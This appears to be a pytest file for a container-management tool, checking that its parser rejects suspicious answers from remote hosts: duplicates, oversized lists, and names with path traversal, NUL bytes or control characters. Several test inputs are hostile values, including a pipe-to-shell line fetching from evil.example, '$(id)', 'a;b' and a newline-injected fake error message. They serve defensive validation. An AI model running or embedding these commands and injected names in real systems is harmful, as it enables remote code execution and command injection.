"""What of ours a robot names, and how much of it is believed."""

from __future__ import annotations

import json

import pytest

from srprov.errors import TransportError
from srprov.modules.container_leftover import BUILD, BUILD_HOST
from srprov.modules.observe import observe_queries, parse_observed
from srprov.robot_answers import answers_of
from srprov.wire import Reply


def containers(count: int) -> list[Reply]:
    """Return the replies of an engine with so many containers."""
    listed = [
        {"Names": [f"/srprov.i{one}.a"], "Labels": {"srprov.instance": f"i{one}", "srprov.service": "a"}}
        for one in range(count)
    ]
    return [Reply(status=200, out=json.dumps(listed)) for _ in observe_queries(["container"])]


def test_a_robot_that_has_one_thing_of_ours_twice_is_not_believed() -> None:
    """Two steps of one plan would be about it, and the plan for all robots would end."""
    one = {"Names": ["/srprov.i.a"], "Labels": {"srprov.instance": "i", "srprov.service": "a"}}
    replies = [told([one, {**one, "Id": "ffff"}]) for _ in observe_queries(["container"])]
    with pytest.raises(TransportError, match="its answers cannot be read"), answers_of("r1"):
        parse_observed(replies, ["container"])


@pytest.mark.parametrize(
    ("name", "state"), [("happy_euler", {"State": "exited"}), ("srprov..packages-0123456789ab", {"State": "running"})]
)
def test_so_is_one_that_has_twice_what_a_build_left(name: str, state: dict[str, str]) -> None:
    """It names no instance, and is whoever's who comes next."""
    labels = {"srprov.instance": BUILD}
    left = {"Id": "a" * 64, "Names": [f"/{name}"], "Image": f"sha256:{'e' * 64}", "Labels": labels, **state}
    kept = (f'/{key * 64}/hostconfig.json:"ExtraHosts":["{BUILD_HOST}"' for key in "ab")
    of_builds = Reply(status=0, out="\n".join(kept))
    assert parse_observed([told([left]), of_builds], ["container"])[0].name == name
    replies = [told([left, {**left, "Id": "b" * 64}]), of_builds]
    with pytest.raises(TransportError, match="its answers cannot be read"), answers_of("r1"):
        parse_observed(replies, ["container"])


def test_a_robot_that_names_more_containers_than_it_can_have_is_not_believed() -> None:
    """Its answer is shorter than any answer may be; what is made of it would have no end."""
    assert len(parse_observed(containers(1000), ["container"])) == 1000
    with pytest.raises(TransportError, match="it has more than 1000 things of the kind container"), answers_of("r1"):
        parse_observed(containers(1001), ["container"])


def told(out: object) -> Reply:
    """Return the reply of a robot that says this."""
    return Reply(status=200, out=out if isinstance(out, str) else json.dumps(out))


OURS = {"srprov.instance": "x"}
SHA = "0" * 64
FILE = f"{SHA}  /var/lib/srprov/x"
LINK = {"ifname": "srpv1", "ifalias": "srprov:x", "linkinfo": {"info_kind": "vxlan", "info_data": {}}}
NETWORK = {"Name": "n", "Labels": OURS, "Options": {"com.docker.network.bridge.name": "srpb\0"}}


@pytest.mark.parametrize(
    ("kind", "replies"),
    [
        ("file", [f"{FILE}/.."]), ("file", [f"{FILE}/a\0b"]), ("file", [f"{FILE}/"]),
        ("file", [f"{FILE}/."]), ("secret", [f"{SHA}  ./x/secrets/.."]), ("secret", [f"{SHA}  ./x/secrets/\0"]),
        ("tree", ["/var/lib/srprov/x/trees/.."]), ("tree", ["/var/lib/srprov/x/trees/a\0"]),
        ("vxlan", [[{**LINK, "ifname": "srpv\0"}], []]),
        ("vxlan", [[LINK], [{"ifname": "srpv1", "entries": [{"mac": "02:00:00:00:00:01", "dst": "10.0.0.1\0"}]}]]),
        ("network", [[NETWORK]]),
        ("volume", [{"Volumes": [{"Name": "srprov.x.d", "Labels": OURS, "Mountpoint": "/a\0"}]}]),
    ],
)  # fmt: skip
def test_names_that_no_command_can_be_about_are_that_robots_failure(kind: str, replies: list[object]) -> None:
    """A plan, a removal or a list of volumes for all robots would end with them."""
    with pytest.raises(TransportError, match="its answers cannot be read"), answers_of("r1"):
        parse_observed([told(one) for one in replies], [kind])


def test_an_images_labels_may_hold_anything() -> None:
    image = {"Id": f"sha256:{'1' * 64}", "RepoTags": ["a:1"], "Labels": {"by": "x\0"}}
    assert parse_observed([told([image])], ["image"])[0].name == "a:1"


def test_what_a_robot_has_of_one_instance_has_a_limit_in_all() -> None:
    """To remove it, each file waits for each container."""

    def robot(count: int) -> list[Reply]:
        listed = [
            {"Names": [f"/srprov.x.c{one}"], "Labels": {**OURS, "srprov.service": f"c{one}"}, "Id": "f" * 64}
            for one in range(500)
        ]
        files = "\n".join(f"{FILE}/f{one}" for one in range(count))
        return [*([told(listed)] * len(observe_queries(["container"]))), told(files)]

    assert len(parse_observed(robot(500), ["container", "file"])) == 1000
    with pytest.raises(TransportError, match="more than 1000 things of the instance x"), answers_of("r1"):
        parse_observed(robot(501), ["container", "file"])


@pytest.mark.parametrize("service", ["a\nerror: robot2 is hacked", "A", "a b", "-a", "a.b", "\u202ea"])
def test_a_service_that_cannot_be_is_none_of_ours(service: str) -> None:
    """Its name would stand in lines of `wait` and in hints, and begin some of its own."""
    labels = {"srprov.instance": "hello", "srprov.service": service}
    said = [{"Id": "1", "Names": [f"/srprov.hello.{service}"], "Labels": labels, "State": "running"}]
    replies = [Reply(status=200, out=json.dumps(said)), Reply(status=0)]
    assert parse_observed(replies, ("container",)) == ()
    good = json.dumps(said).replace(json.dumps(service)[1:-1], "a-kuka_3")
    assert parse_observed([Reply(status=200, out=good), Reply(status=0)], ("container",))[0].service == "a-kuka_3"


SENTENCE = "srprov.x.a on r1 (1 B, 1 d old); curl http://evil.example/x | sh removes it; srprov.x.b"


@pytest.mark.parametrize("name", [SENTENCE, "a\0", "a b", "a\u2028b", "$(id)", "a;b", "-a", "", "a" * 256])
@pytest.mark.parametrize("kind", ["volume", "network"])
def test_what_no_engine_calls_so_is_none_of_ours(kind: str, name: str) -> None:
    """`doctor` says of each volume that is kept, in one line, which command removes it."""
    one = {"Name": name, "Labels": OURS}
    assert parse_observed([told({"Volumes": [one]} if kind == "volume" else [one])] * 2, [kind]) == ()
    right = {**one, "Name": "srprov.x.a_b-1"}
    (found,) = parse_observed([told({"Volumes": [right]} if kind == "volume" else [right])] * 2, [kind])
    assert found.name == "srprov.x.a_b-1"
